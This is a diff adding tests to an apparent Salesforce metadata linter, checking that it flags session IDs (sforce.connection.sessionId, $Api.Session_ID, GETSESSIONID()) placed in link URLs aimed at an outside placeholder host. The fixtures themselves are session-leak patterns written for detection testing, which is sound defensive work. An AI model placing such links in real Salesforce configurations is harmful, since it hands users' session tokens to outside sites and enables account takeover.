@@ -103,6 +103,39 @@ window.open(&apos;https://js.example.com/?s={{!$Api.Session_ID}}&apos;);</url></
     assert use.span.start_line == 4
 
 
+def test_javascript_web_link_reading_the_toolkit_session_is_a_source() -> None:
+    xml = HEADER + f"""<WebLink {NS}>
+    <fullName>Sync</fullName>
+    <linkType>javascript</linkType>
+    <url>{{!REQUIRESCRIPT("/soap/ajax/59.0/connection.js")}} window.open('https://x.example.com/?s=' +
+sforce.connection.sessionId);</url>
+</WebLink>
+"""
+    ir = lower(xml, "force-app/main/default/objects/Account/webLinks/Sync.webLink-meta.xml")
+    (source,) = ir.sources
+    assert source.kind == SourceKind.JS_SFORCE_SESSION and source.span.start_line == 6
+    use = sink(ir, "window.open")
+    assert use.url.startswith("https://x.example.com/?s=") and use.in_query
+
+
+def test_top_level_custom_link_is_a_url_sink() -> None:
+    xml = HEADER + f"""<CustomPageWebLink {NS}>
+    <linkType>url</linkType>
+    <url>https://x.example.com/?sid={{!$Api.Session_ID}}</url>
+</CustomPageWebLink>
+"""
+    ir = lower(xml, "force-app/main/default/weblinks/Home.weblink-meta.xml", "CustomPageWebLink")
+    assert sink(ir, "weblink").url == "https://x.example.com/?sid={!$Api.Session_ID}"
+
+
+def test_formula_url_keeps_literals_and_names_other_terms_as_merge_fields() -> None:
+    from apexlint.lower.metadata import formula_url_text
+    assert formula_url_text(' "https://x.example.com/?id=" & Id & "&sid=" & GETSESSIONID() ') == \
+        "https://x.example.com/?id={!Id}&sid={!GETSESSIONID()}"
+    assert formula_url_text('LEFT($Api.Partner_Server_URL_590, 20) & "apex/X"') == \
+        "{!LEFT($Api.Partner_Server_URL_590, 20)}apex/X"
+
+
 def test_formula_hyperlink_with_getsessionid() -> None:
     xml = HEADER + f"""<CustomField {NS}>
     <fullName>Portal__c</fullName>
@@ -113,7 +146,7 @@ def test_formula_hyperlink_with_getsessionid() -> None:
     assert source.text == "GETSESSIONID()" and source.context == "formula" and source.owner == "Portal__c"
     assert (source.span.start_line, source.span.start_col) == (4, 70)
     use = sink(ir, "formula-hyperlink")
-    assert use.url == '"https://x.example.com/?sid=" & GETSESSIONID()' and use.in_query
+    assert use.url == "https://x.example.com/?sid={!GETSESSIONID()}" and use.in_query
 
 
 def test_custom_tab_and_home_page_component() -> None:
